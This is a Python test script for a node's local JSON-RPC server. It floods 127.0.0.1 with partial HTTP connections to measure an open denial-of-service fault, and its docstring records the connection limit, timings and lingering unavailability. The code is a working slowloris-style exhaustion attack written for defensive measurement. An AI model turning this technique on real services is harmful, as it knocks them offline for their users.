#!/usr/bin/env python3
"""rpc_flood.py PORT [N] — against a running `jark node --rpc 127.0.0.1:PORT`:
open N (default 200) TCP connections that send a partial HTTP header, close
them all, wait 2 s, then time one `status` request. Not in `make test`: it
measures time, and it shows a fault still open (adv6's report):

- while the attacker holds 64 connections (MHD_OPTION_CONNECTION_LIMIT),
  the RPC answers nobody; a byte every < 30 s keeps them (documented limit,
  no per-address cap);
- worse, with more than 64, the RPC stays unavailable for tens of seconds
  AFTER the attacker closed everything (measured: 200 connections -> no
  answer within 40 s; 100 idle connections -> 15 s; 64 -> 0.02 s): the
  sockets beyond the limit sit in CLOSE-WAIT in the listen backlog and are
  drained slowly. Consensus is unaffected (the node kept committing).

Exit 1 when the status request takes more than 5 s."""
import json, socket, sys, time

port = int(sys.argv[1]); n = int(sys.argv[2]) if len(sys.argv) > 2 else 200

def status(timeout):
    s = socket.create_connection(('127.0.0.1', port), timeout=timeout)
    b = b'{"jsonrpc":"2.0","method":"status","id":1}'
    s.sendall(b'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\nConnection: close\r\n\r\n' % len(b) + b)
    out = b''
    while True:
        d = s.recv(65536)
        if not d:
            break
        out += d
    s.close()
    return json.loads(out[out.find(b'\r\n\r\n') + 4:])['result']['height']

socks = []
for _ in range(n):
    s = socket.create_connection(('127.0.0.1', port), timeout=5)
    s.sendall(b'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n')
    socks.append(s)
time.sleep(0.5)
for s in socks:
    s.close()
time.sleep(2)
t = time.time()
try:
    h = status(60)
    took = time.time() - t
    print('status after the flood closed: height %d in %.2f s' % (h, took))
    sys.exit(1 if took > 5 else 0)
except Exception as e:
    print('status after the flood closed: FAILED after %.2f s: %r' % (time.time() - t, e))
    sys.exit(1)
